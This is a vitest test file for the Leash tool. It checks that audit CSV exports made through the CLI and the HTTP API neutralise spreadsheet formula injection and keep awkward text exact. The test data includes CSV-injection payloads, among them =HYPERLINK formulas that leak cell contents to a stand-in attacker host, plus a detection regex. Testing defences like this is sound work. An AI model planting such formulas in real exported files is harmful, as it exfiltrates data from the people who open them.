/**
 * CSV injection (OWASP): no cell of a CSV Leash writes starts with `=`, `+`, `-`, `@`, a tab or a CR, so a ticket
 * message such as `=HYPERLINK(…)` opens in a spreadsheet as text. The audit export is Leash's only CSV writer;
 * it is checked through `leash audit export --format csv` (a real CLI on a real data directory) and through
 * `GET /api/audit/export?format=csv` (a real server on loopback, after a real ticket over HTTP). Quotes, commas
 * and line breaks still read back exactly through a CSV parser, and numbers Leash writes itself stay numbers.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsvRecords } from '../../src/agent/ticket/csv.ts';
import { appendAuditEvent } from '../../src/audit/append-audit-event.ts';
import { listOrgs } from '../../src/auth/members.ts';
import { openStore } from '../../src/store/db.ts';
import { runLeash } from '../support/cli.ts';
import { startTestServer, type TestServer } from '../support/http.ts';
import { CLERK, type LeashFixture, OWNER, openLeashFixture } from '../support/leash-fixture.ts';
import { testStoreKind } from '../support/store.ts';

/** Text a person or a customer could type, each starting with a character a spreadsheet reads as a formula. */
const HOSTILE = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for your refund")',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\uFF1D1+1',
];
/** Text that must read back exactly: a quote, a comma and a line break. */
const AWKWARD = 'He said "refund me", then\nleft; twice,\r\nreally';

const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** Every cell of a CSV text that a spreadsheet would run as a formula, with its column. */
function formulaCells(records: Record<string, string>[]): string[] {
  return records.flatMap((record) =>
    Object.entries(record)
      .filter(([, cell]) => FORMULA_START.test(cell))
      .map(([column, cell]) => `${column}=${JSON.stringify(cell)}`),
  );
}

/** Checks an export's CSV text: hostile inputs neutralised with a leading `'`, awkward text exact, seq numeric. */
function expectSafeExport(csv: string, hostile: readonly string[]): Record<string, string>[] {
  const records = parseCsvRecords(csv);
  expect(records.length).toBeGreaterThan(hostile.length);
  expect(formulaCells(records)).toEqual([]);
  const inputs = records.map((record) => record.user_input);
  for (const text of hostile) expect(inputs).toContain(`'${text}`);
  expect(records.every((record) => /^[1-9][0-9]*$/.test(record.seq ?? ''))).toBe(true);
  return records;
}

describe('CSV export through the CLI (embedded store)', () => {
  let dataDir = '';
  const env = (): NodeJS.ProcessEnv => {
    const environment: NodeJS.ProcessEnv = { ...process.env, LEASH_DATA_DIR: dataDir };
    for (const name of ['DATABASE_URL', 'LEASH_USER', 'LEASH_ORG', 'LEASH_POLICY_DIR', 'LEASH_DEBUG'])
      delete environment[name];
    return environment;
  };

  beforeAll(async () => {
    dataDir = mkdtempSync(join(tmpdir(), 'leash-csv-'));
    const init = await runLeash(['init', '--owner', 'owner@csv.test', '--org', 'CSV Co', '--json'], { env: env() });
    expect(init.code, init.stderr).toBe(0);
    // Requests as people typed them, recorded the way every surface records a request (user_input).
    const store = await openStore({ dataDir });
    try {
      const [org] = await listOrgs(store.db);
      if (!org) throw new Error('no org');
      for (const text of [...HOSTILE, AWKWARD])
        await appendAuditEvent(store.db, {
          orgId: org.id,
          event: 'data.read',
          channel: 'cli',
          actorEmail: 'owner@csv.test',
          operation: 'search_customers',
          arguments: { query: text },
          userInput: text,
        });
    } finally {
      await store.close();
    }
  }, 120_000);
  afterAll(() => {
    if (dataDir) rmSync(dataDir, { recursive: true, force: true });
  });

  it('`leash audit export --format csv` neutralises every formula-leading cell and keeps text exact', async () => {
    const exported = await runLeash(['audit', 'export', '--format', 'csv'], { env: env() });
    expect(exported.code, exported.stderr).toBe(0);
    expect(exported.stdout.split('\n')[0]).toMatch(/^seq,id,at,event,/);
    const records = expectSafeExport(exported.stdout, HOSTILE);
    expect(records.map((record) => record.user_input)).toContain(AWKWARD);
    // The arguments cell is JSON of the very same text, exact after parsing.
    const awkward = records.find((record) => record.user_input === AWKWARD);
    expect(JSON.parse(awkward?.arguments ?? '{}')).toEqual({ query: AWKWARD });
  }, 120_000);
});

describe(`CSV export over HTTP (${testStoreKind})`, () => {
  let fixture: LeashFixture;
  let server: TestServer;
  let owner: string;

  beforeAll(async () => {
    fixture = await openLeashFixture();
    server = await startTestServer(fixture);
    owner = await server.apiKey(OWNER);
  });
  afterAll(async () => {
    await server.close();
    await fixture.close();
  });

  it('a ticket message starting with =HYPERLINK(…) comes out of the export as text, not a formula', async () => {
    const { customer } = await fixture.paidCharge(2_000, 'usd', 'Initech');
    const clerk = await server.apiKey(CLERK);
    const message = '=HYPERLINK("http://attacker.example/?x="&B2,"Refund status") I was charged twice';
    const ticket = await server.call('POST', '/api/tickets', {
      token: clerk,
      body: { message, customer: customer.id },
    });
    expect(ticket.status, JSON.stringify(ticket.body)).toBe(201);
    const exported = await server.call<string>('GET', '/api/audit/export?format=csv', { token: owner });
    expect(exported.status).toBe(200);
    expect(exported.headers.get('content-type')).toContain('text/csv');
    const records = expectSafeExport(exported.body, [message]);
    expect(records.filter((record) => record.user_input === `'${message}`).length).toBeGreaterThan(0);
  });

  it('every hostile prefix (tab and CR too) is neutralised, and awkward text reads back exactly', async () => {
    for (const text of [...HOSTILE, AWKWARD])
      await appendAuditEvent(fixture.store.db, {
        orgId: fixture.orgId,
        event: 'data.read',
        channel: 'http',
        actorEmail: OWNER,
        userInput: text,
      });
    const exported = await server.call<string>('GET', '/api/audit/export?format=csv', { token: owner });
    expect(exported.status).toBe(200);
    const records = expectSafeExport(exported.body, HOSTILE);
    expect(records.map((record) => record.user_input)).toContain(AWKWARD);
  });
});
